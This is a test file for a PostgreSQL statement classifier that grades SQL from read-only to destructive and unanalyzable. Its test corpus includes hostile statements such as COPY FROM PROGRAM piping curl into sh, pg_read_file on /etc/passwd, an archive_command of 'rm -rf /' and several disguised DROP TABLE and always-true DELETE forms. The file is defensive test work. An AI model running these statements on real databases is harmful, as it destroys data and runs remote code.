import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loadSqlParser } from '../../analyzers/pg-parser.js';
import { classifySql, SQL_LIMITS, type SqlAnalysis } from './classify-sql.js';
import type { SqlParser } from './sql-parser.js';
import { moreSevere, type StatementClass } from './statement-class.js';

const parser: SqlParser = await loadSqlParser();

const classify = (sql: string): SqlAnalysis => classifySql(parser, sql);

/** Every statement with the class a DBA reviewing it would give the whole script. */
const CORPUS: readonly (readonly [sql: string, cls: StatementClass])[] = [
  // ---- read
  ['SELECT 1', 'read'],
  ['select * from orders where id = 1', 'read'],
  ['SELECT count(*), max(total) FROM public.orders GROUP BY customer_id', 'read'],
  ['SELECT 1 -- ; DROP TABLE x', 'read'],
  ["SELECT ';DROP TABLE x'", 'read'],
  ['SELECT $$; DROP TABLE x$$', 'read'],
  ['/* DROP TABLE users */ SELECT name FROM users', 'read'],
  ['SELECT * FROM U&"d\\0061ta"', 'read'],
  ["WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", 'read'],
  ['EXPLAIN SELECT * FROM orders', 'read'],
  ['EXPLAIN DELETE FROM orders', 'read'],
  ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'read'],
  ['EXPLAIN ANALYZE SELECT * FROM orders', 'read'],
  ['SHOW work_mem', 'read'],
  ["SET statement_timeout = '5s'", 'read'],
  ['SET LOCAL lock_timeout TO 1000', 'read'],
  ["SET TIME ZONE 'UTC'", 'read'],
  ['SET search_path TO app, public', 'read'],
  ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'read'],
  ['RESET ALL', 'read'],
  ['BEGIN', 'read'],
  ['COMMIT', 'read'],
  ['ROLLBACK', 'read'],
  ['SAVEPOINT s1', 'read'],
  ["VALUES (1, 'a'), (2, 'b')", 'read'],
  ['TABLE orders', 'read'],
  ['COPY orders TO STDOUT WITH (FORMAT csv)', 'read'],
  ['DECLARE c CURSOR FOR SELECT * FROM orders', 'read'],
  ['FETCH 10 FROM c', 'read'],
  ["SELECT lower(email), coalesce(name, 'n/a'), date_trunc('day', created_at) FROM users", 'read'],
  ['SELECT * FROM generate_series(1, 10) AS g(i)', 'read'],
  ['SELECT a FROM t UNION ALL SELECT b FROM u', 'read'],
  ['DISCARD ALL', 'read'],
  ["SELECT current_setting('work_mem')", 'read'],

  // ---- write
  ['INSERT INTO orders (id, total) VALUES (1, 10)', 'write'],
  ['INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write'],
  ["UPDATE orders SET status = 'shipped' WHERE id = 42", 'write'],
  ["DELETE FROM orders WHERE created_at < now() - interval '1 year'", 'write'],
  ['DELETE FROM t WHERE true AND id = 5', 'write'],
  ['DELETE FROM t WHERE NULL', 'write'],
  ['DELETE FROM t WHERE id = 1 OR false', 'write'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)', 'write'],
  ['COPY orders FROM STDIN', 'write'],
  ['SELECT * INTO backup_orders FROM orders', 'write'],
  ["CREATE TABLE archive AS SELECT * FROM orders WHERE created_at < '2020-01-01'", 'write'],
  ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'write'],
  ['SELECT * FROM t FOR UPDATE', 'write'],
  ['SELECT * FROM t WHERE id = 1 FOR SHARE SKIP LOCKED', 'write'],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'write'],
  ['LISTEN jobs', 'write'],
  ["NOTIFY jobs, 'go'", 'write'],
  ["SELECT nextval('orders_id_seq')", 'write'],
  ['SELECT pg_advisory_lock(42)', 'write'],
  ['EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 2', 'write'],
  ['VACUUM ANALYZE orders', 'write'],
  ['ANALYZE orders', 'write'],
  ['PREPARE ins (int) AS INSERT INTO t VALUES ($1)', 'write'],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY daily_totals', 'write'],

  // ---- ddl
  ['CREATE TABLE t (id bigint PRIMARY KEY, name text NOT NULL)', 'ddl'],
  ['CREATE INDEX CONCURRENTLY orders_created_idx ON orders (created_at)', 'ddl'],
  ['CREATE UNIQUE INDEX ON users (lower(email))', 'ddl'],
  ['CREATE VIEW v AS SELECT id FROM orders', 'ddl'],
  ['CREATE OR REPLACE VIEW v AS SELECT id, total FROM orders', 'ddl'],
  ['CREATE SEQUENCE s', 'ddl'],
  ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'ddl'],
  ['CREATE SCHEMA reporting', 'ddl'],
  ['ALTER TABLE t ADD COLUMN c int', 'ddl'],
  ['ALTER TABLE t ADD CONSTRAINT positive CHECK (total > 0) NOT VALID', 'ddl'],
  ['ALTER TABLE t ALTER COLUMN c SET DEFAULT 0', 'ddl'],
  ['ALTER TABLE t ALTER COLUMN c DROP DEFAULT', 'ddl'],
  ['ALTER TABLE t ALTER COLUMN c SET NOT NULL', 'ddl'],
  ["COMMENT ON TABLE t IS 'orders'", 'ddl'],
  ['VACUUM FULL orders', 'ddl'],
  ['CLUSTER orders USING orders_pkey', 'ddl'],
  ['REINDEX INDEX CONCURRENTLY orders_pkey', 'ddl'],
  ["ALTER TYPE mood ADD VALUE 'happy'", 'ddl'],

  // ---- destructive
  ['/* */ DrOp TABLE "Users"', 'destructive'],
  ['DROP TABLE IF EXISTS a, b CASCADE', 'destructive'],
  ['DROP SCHEMA app CASCADE', 'destructive'],
  ['DROP DATABASE prod', 'destructive'],
  ['DROP INDEX CONCURRENTLY i', 'destructive'],
  ['DROP VIEW v', 'destructive'],
  ['DROP FUNCTION f(int)', 'destructive'],
  ['TRUNCATE a, b CASCADE', 'destructive'],
  ['TRUNCATE TABLE orders RESTART IDENTITY', 'destructive'],
  ['DELETE FROM orders', 'destructive'],
  ['UPDATE users SET admin = true', 'destructive'],
  ['DELETE FROM t WHERE true', 'destructive'],
  ['DELETE FROM t WHERE 1=1', 'destructive'],
  ["UPDATE t SET a=1 WHERE 'x'='x'", 'destructive'],
  ['DELETE FROM t WHERE NOT false', 'destructive'],
  ['DELETE FROM t WHERE id > 5 OR true', 'destructive'],
  ['DELETE FROM t WHERE id = id', 'destructive'],
  ["DELETE FROM t WHERE 't'::boolean", 'destructive'],
  ['DELETE FROM t WHERE 2 - 1 = 1', 'destructive'],
  ['DELETE FROM t WHERE 0.1 + 0.2 = 0.3', 'destructive'],
  ['DELETE FROM t WHERE 1 IN (1, 2)', 'destructive'],
  ['DELETE FROM t WHERE EXISTS (SELECT 1)', 'destructive'],
  ["DELETE FROM t WHERE name LIKE '%'", 'destructive'],
  ['DELETE FROM t WHERE NULL IS NULL', 'destructive'],
  ['ALTER TABLE t RENAME TO u', 'destructive'],
  ['ALTER TABLE t RENAME COLUMN a TO b', 'destructive'],
  ['ALTER TABLE t DROP COLUMN c', 'destructive'],
  ['ALTER TABLE t ALTER COLUMN c TYPE bigint', 'destructive'],
  ['ALTER TABLE t ALTER COLUMN c DROP NOT NULL', 'destructive'],
  ['ALTER TABLE t DROP CONSTRAINT fk', 'destructive'],
  ['ALTER TABLE t SET UNLOGGED', 'destructive'],
  ['ALTER TABLE t DISABLE TRIGGER ALL', 'destructive'],
  ['ALTER TABLE t SET SCHEMA archive', 'destructive'],
  ['ALTER TABLE t DETACH PARTITION t_2020', 'destructive'],
  ["ALTER TYPE mood RENAME VALUE 'ok' TO 'fine'", 'destructive'],
  ['ALTER SEQUENCE s RESTART', 'destructive'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'destructive'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'destructive'],
  ['PREPARE p AS DELETE FROM t', 'destructive'],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'destructive'],
  ['SELECT pg_terminate_backend(42)', 'destructive'],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'destructive'],
  ['DROP ROLE app', 'destructive'],
  ['DROP OWNED BY app', 'destructive'],
  ["ROLLBACK PREPARED 'tx1'", 'destructive'],
  ['SELECT 1; DROP TABLE users', 'destructive'],

  // ---- privilege
  ['GRANT ALL ON t TO public', 'privilege'],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting', 'privilege'],
  ['REVOKE INSERT ON t FROM app', 'privilege'],
  ['GRANT admin TO app', 'privilege'],
  ["CREATE ROLE intern LOGIN PASSWORD 'x'", 'privilege'],
  ['CREATE USER bob', 'privilege'],
  ['ALTER ROLE app SUPERUSER', 'privilege'],
  ['ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r', 'privilege'],
  ['SET ROLE admin', 'privilege'],
  ['SET SESSION AUTHORIZATION postgres', 'privilege'],
  ['RESET ROLE', 'privilege'],
  ['ALTER TABLE t OWNER TO mallory', 'privilege'],
  ['ALTER FUNCTION f() OWNER TO mallory', 'privilege'],
  ['ALTER FUNCTION f() SECURITY DEFINER', 'privilege'],
  ['REASSIGN OWNED BY a TO b', 'privilege'],
  ['CREATE POLICY p ON t USING (true)', 'privilege'],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'privilege'],
  ['CREATE EXTENSION dblink', 'privilege'],
  ["SET app.tenant_id = '42'", 'privilege'],
  ["SELECT set_config('role', 'admin', false)", 'privilege'],

  // ---- unanalyzable
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'unanalyzable'],
  ['EXECUTE p', 'unanalyzable'],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 'unanalyzable'],
  ['CALL cleanup()', 'unanalyzable'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$', 'unanalyzable'],
  ['CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', 'unanalyzable'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", 'unanalyzable'],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()', 'unanalyzable'],
  ['CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING', 'unanalyzable'],
  ['SELECT purge_old_rows()', 'unanalyzable'],
  ['SELECT app.purge(1)', 'unanalyzable'],
  ["SELECT lo_import('/etc/passwd')", 'unanalyzable'],
  ["SELECT lo_export(1234, '/tmp/x')", 'unanalyzable'],
  ["SELECT pg_read_file('/etc/passwd')", 'unanalyzable'],
  ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", 'unanalyzable'],
  ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", 'unanalyzable'],
  ["COPY t FROM PROGRAM 'curl http://x | sh'", 'unanalyzable'],
  ["COPY t TO PROGRAM 'cat > /tmp/x'", 'unanalyzable'],
  ["COPY t TO '/var/lib/postgresql/data/pg_hba.conf'", 'unanalyzable'],
  ['SELECT 1 <=> 2', 'unanalyzable'],
  ['EXPLAIN SELECT evil()', 'unanalyzable'],
  ['SET standard_conforming_strings = off', 'unanalyzable'],
  ['SET search_path = evil, pg_catalog', 'unanalyzable'],
  ["ALTER SYSTEM SET archive_command = 'rm -rf /'", 'unanalyzable'],
  ["LOAD 'evil'", 'unanalyzable'],
  ["COMMIT PREPARED 'tx1'", 'unanalyzable'],
  ['INSERT INTO t VALUES (evil())', 'unanalyzable'],
  ['CREATE INDEX ON t (evil(a))', 'unanalyzable'],
  ['ALTER TABLE t ADD CONSTRAINT c CHECK (evil(a))', 'unanalyzable'],
  ["SELECT set_config(current_user, 'x', false)", 'unanalyzable'],
  ['CREATE FOREIGN TABLE ft (a int) SERVER s', 'unanalyzable'],
  ['SELECT constructor()', 'unanalyzable'],
  ['SELECT "toString"(), "__proto__"()', 'unanalyzable'],
  ['SET constructor = 1', 'unanalyzable'],
  ['selec 1', 'unanalyzable'],
  ['', 'unanalyzable'],
  ['-- only a comment', 'unanalyzable'],
  [';;', 'unanalyzable'],
];

describe('classifySql: corpus', () => {
  it('holds at least 70 statements and every class', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(70);
    expect(new Set(CORPUS.map(([, c]) => c)).size).toBe(6);
  });

  it.each(CORPUS)('%s -> %s', (sql, cls) => {
    const a = classify(sql);
    expect(a.class, a.statements.flatMap((s) => s.reasons).join('; ')).toBe(cls);
    for (const s of a.statements) expect(s.reasons.length).toBeGreaterThan(0);
  });
});

describe('classifySql: findings', () => {
  it('folds identifiers as PostgreSQL does: unquoted to lower case, quoted kept, U& escapes decoded', () => {
    expect(classify('/* */ DrOp TABLE "Users"').statements[0]?.tables).toEqual(['Users']);
    expect(classify('DROP TABLE USERS').statements[0]?.tables).toEqual(['users']);
    expect(classify('SELECT * FROM U&"d\\0061ta"').statements[0]?.tables).toEqual(['data']);
    expect(classify('SELECT * FROM "Sales"."Q1" JOIN sales.q2 USING (id)').statements[0]?.tables).toEqual(['Sales.Q1', 'sales.q2']);
  });

  it('leaves WITH query names out of tables, but never a write target', () => {
    expect(classify('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d').statements[0]?.tables).toEqual(['t']);
    expect(classify('WITH t AS (SELECT 1) DELETE FROM t').statements[0]?.tables).toEqual(['t']);
  });

  it('reports WHERE clauses of UPDATE and DELETE', () => {
    expect(classify('DELETE FROM orders').statements[0]).toMatchObject({ hasWhere: false, command: 'DELETE', kind: 'DeleteStmt' });
    expect(classify('DELETE FROM t WHERE id = 5').statements[0]).toMatchObject({ hasWhere: true, whereAlwaysTrue: false });
    expect(classify('UPDATE t SET a = 1 WHERE 1=1').statements[0]).toMatchObject({ hasWhere: true, whereAlwaysTrue: true });
    expect(classify('SELECT 1').statements[0]?.hasWhere).toBeUndefined();
  });

  it('names the table and the missing WHERE clause in the reason', () => {
    expect(classify('DELETE FROM orders').statements[0]?.reasons).toEqual(['DELETE without a WHERE clause removes every row of orders']);
    expect(classify('TRUNCATE a, b CASCADE').statements[0]?.reasons[0]).toMatch(/every row of a, b.*CASCADE/);
    expect(classify("COPY t FROM PROGRAM 'curl x'").statements[0]?.reasons[0]).toMatch(/shell command 'curl x'/);
  });

  it('classifies every statement of a script: a harmless one cannot hide the next', () => {
    const a = classify("SELECT 'é'; /* x */ DROP TABLE users;\nINSERT INTO t VALUES (1)");
    expect(a.statements.map((s) => [s.index, s.class, s.command])).toEqual([
      [0, 'read', 'SELECT'],
      [1, 'destructive', 'DROP TABLE'],
      [2, 'write', 'INSERT'],
    ]);
    expect(a.statements.map((s) => s.text)).toEqual(["SELECT 'é'", '/* x */ DROP TABLE users', 'INSERT INTO t VALUES (1)']);
    expect(a).toMatchObject({ ok: true, class: 'destructive', destructive: true, writes: true, ddl: true });
  });

  it('summarizes reads as harmless and additive DDL as reversible', () => {
    expect(classify('SELECT 1; SHOW work_mem')).toMatchObject({ class: 'read', destructive: false, writes: false, ddl: false });
    const create = classify('CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN c int; CREATE INDEX ON t (c)');
    expect(create).toMatchObject({ class: 'ddl', destructive: false, writes: true, ddl: true });
    expect(create.statements.map((s) => s.irreversible)).toEqual([false, false, false]);
    expect(classify('INSERT INTO t VALUES (1)')).toMatchObject({ ddl: false, statements: [{ irreversible: true }] });
    expect(classify('ALTER TABLE t ALTER COLUMN c SET DEFAULT 1').statements[0]?.irreversible).toBe(true);
    expect(classify('SELECT * FROM t FOR UPDATE').statements[0]?.irreversible).toBe(false);
  });

  it('takes the command of the statement EXPLAIN ANALYZE and PREPARE wrap', () => {
    expect(classify('EXPLAIN ANALYZE DELETE FROM t').statements[0]).toMatchObject({ kind: 'ExplainStmt', command: 'EXPLAIN ANALYZE DELETE', hasWhere: false });
    expect(classify('EXPLAIN DELETE FROM t').statements[0]).toMatchObject({ command: 'EXPLAIN', class: 'read', tables: ['t'] });
    expect(classify('PREPARE p AS DELETE FROM t').statements[0]).toMatchObject({ command: 'PREPARE DELETE', class: 'destructive' });
  });

  it('clips long statement texts', () => {
    const text = classify(`SELECT ${'1, '.repeat(300)}1`).statements[0]?.text ?? '';
    expect(text.length).toBe(200);
    expect(text.endsWith('…')).toBe(true);
  });
});

describe('classifySql: fails closed', () => {
  it('refuses SQL that does not parse', () => {
    const a = classify('DELETE FROM WHERE');
    expect(a).toMatchObject({ ok: false, class: 'unanalyzable', destructive: true, statements: [{ kind: 'SyntaxError', class: 'unanalyzable', irreversible: true }] });
    expect(a.error).toMatch(/does not parse: syntax error/);
  });

  it('refuses empty SQL and SQL with only comments', () => {
    for (const sql of ['', '   \n', '-- nothing', '/* nothing */', ';']) {
      expect(classify(sql)).toMatchObject({ ok: false, class: 'unanalyzable', statements: [{ kind: 'Empty' }] });
    }
  });

  it(`refuses more than ${SQL_LIMITS.maxBytes} bytes, counted in UTF-8`, () => {
    expect(classify(`SELECT '${'x'.repeat(SQL_LIMITS.maxBytes)}'`)).toMatchObject({ ok: false, statements: [{ kind: 'TooLarge' }] });
    // 30,000 characters, 90,000 bytes.
    expect(classify(`SELECT '${'€'.repeat(30_000)}'`)).toMatchObject({ ok: false, statements: [{ kind: 'TooLarge' }] });
    expect(classify(`SELECT '${'x'.repeat(60_000)}'`).ok).toBe(true);
  });

  it(`refuses more than ${SQL_LIMITS.maxStatements} statements`, () => {
    expect(classify('SELECT 1;'.repeat(SQL_LIMITS.maxStatements)).ok).toBe(true);
    const a = classify('SELECT 1;'.repeat(SQL_LIMITS.maxStatements + 1));
    expect(a).toMatchObject({ ok: false, class: 'unanalyzable', statements: [{ kind: 'TooManyStatements' }] });
  });

  it('takes its limits from the options', () => {
    expect(classifySql(parser, 'SELECT 1; SELECT 2', { maxStatements: 1 }).ok).toBe(false);
    expect(classifySql(parser, 'SELECT 1', { maxBytes: 4 }).ok).toBe(false);
  });

  it('refuses statements nested too deeply to analyze, and the parser never throws on them', () => {
    expect(classify(`SELECT 1${' + 1'.repeat(2000)}`).statements[0]).toMatchObject({ class: 'unanalyzable', reasons: expect.arrayContaining([expect.stringMatching(/nested more than/)]) });
    expect(classify(`DELETE FROM t WHERE ${'NOT '.repeat(600)}false`).class).toBe('unanalyzable');
    expect(classify(`DELETE FROM t WHERE ${'NOT '.repeat(201)}false`).class).toBe('destructive');
    expect(classify(`DELETE FROM t WHERE ${'NOT '.repeat(200)}false`).class).toBe('write');
    expect(classify(`SELECT ${'('.repeat(15_000)}1${')'.repeat(15_000)}`).class).toBe('unanalyzable');
  });

  it('treats a statement type it does not know as unanalyzable', () => {
    const a = classify('CREATE FOREIGN TABLE ft (a int) SERVER s');
    expect(a.statements[0]).toMatchObject({ kind: 'CreateForeignTableStmt', command: 'CREATE FOREIGN TABLE', class: 'unanalyzable' });
  });
});

describe('classifySql: properties', () => {
  const single = CORPUS.filter(([sql]) => classify(sql).ok);

  it('random case, whitespace and comments between tokens never change a classification', () => {
    fc.assert(
      fc.property(fc.constantFrom(...CORPUS), fc.array(fc.nat(), { minLength: 1, maxLength: 64 }), ([sql], noise) => {
        const disguised = disguise(sql, noise);
        expect(summary(classify(disguised)), disguised).toEqual(summary(classify(sql)));
      }),
      { numRuns: 1000 },
    );
  });

  it('a script is as severe as its most severe statement, whatever the order', () => {
    fc.assert(
      fc.property(fc.constantFrom(...single), fc.constantFrom(...single), ([a, ca], [b, cb]) => {
        const script = classify(`${a}\n;\n${b}`);
        expect(script.class).toBe(moreSevere(ca, cb));
        expect(script.statements.length).toBe(classify(a).statements.length + classify(b).statements.length);
      }),
      { numRuns: 500 },
    );
  });
});

describe('purity', () => {
  it('keeps the parser package out of the analyzer: only the adapter imports it', () => {
    const dir = fileURLToPath(new URL('.', import.meta.url));
    for (const file of readdirSync(dir).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))) {
      expect(readFileSync(`${dir}/${file}`, 'utf8'), file).not.toMatch(/from ['"](libpg-query|node:)/);
    }
  });
});

function summary(a: SqlAnalysis): unknown {
  return { class: a.class, statements: a.statements.map((s) => ({ class: s.class, command: s.command, tables: s.tables, hasWhere: s.hasWhere, whereAlwaysTrue: s.whereAlwaysTrue })) };
}

/**
 * Re-cases every letter outside quotes, dollar quotes and comments, and replaces
 * every run of whitespace there with other whitespace or comments: changes that
 * PostgreSQL's lexer ignores. `noise` drives the choices.
 */
function disguise(sql: string, noise: readonly number[]): string {
  let n = 0;
  const next = () => noise[n++ % noise.length] ?? 0;
  const gaps = [' ', '\t', '\n', '   ', ' /* x */ ', '\n-- y\n', ' /* /* nested */ */ ', '\r\n'];
  const recase = (text: string) => text.replace(/[a-z]/gi, (c) => (next() % 2 === 0 ? c.toLowerCase() : c.toUpperCase())).replace(/\s+/g, () => gaps[next() % gaps.length] as string);
  let out = next() % 3 === 0 ? '/* lead */ ' : '';
  for (const { code, text } of segments(sql)) out += code ? recase(text) : text;
  return next() % 3 === 0 ? `${out} -- trail` : out;
}

/** Splits SQL into code and opaque parts (string literals, quoted identifiers, dollar quotes, comments). */
function segments(sql: string): { code: boolean; text: string }[] {
  const out: { code: boolean; text: string }[] = [];
  let i = 0;
  let start = 0;
  const opaque = (end: number) => {
    if (i > start) out.push({ code: true, text: sql.slice(start, i) });
    out.push({ code: false, text: sql.slice(i, end) });
    i = end;
    start = end;
  };
  while (i < sql.length) {
    const rest = sql.slice(i);
    const dollar = /^\$([A-Za-z_][A-Za-z_0-9]*)?\$/.exec(rest);
    if (rest.startsWith('--')) {
      const nl = sql.indexOf('\n', i);
      opaque(nl === -1 ? sql.length : nl);
    } else if (rest.startsWith('/*')) {
      let depth = 0;
      let j = i;
      do {
        if (sql.startsWith('/*', j)) depth++;
        else if (sql.startsWith('*/', j)) depth--;
        j += sql.startsWith('/*', j) || sql.startsWith('*/', j) ? 2 : 1;
      } while (depth > 0 && j < sql.length);
      opaque(j);
    } else if (rest[0] === "'" || rest[0] === '"') {
      const quote = rest[0];
      let j = i + 1;
      while (j < sql.length && !(sql[j] === quote && sql[j + 1] !== quote)) j += sql[j] === quote ? 2 : 1;
      opaque(j + 1);
    } else if (dollar && !/[A-Za-z0-9_]/.test(sql[i - 1] ?? '')) {
      const close = sql.indexOf(dollar[0], i + dollar[0].length);
      opaque(close === -1 ? sql.length : close + dollar[0].length);
    } else i++;
  }
  if (start < sql.length) out.push({ code: true, text: sql.slice(start) });
  return out;
}
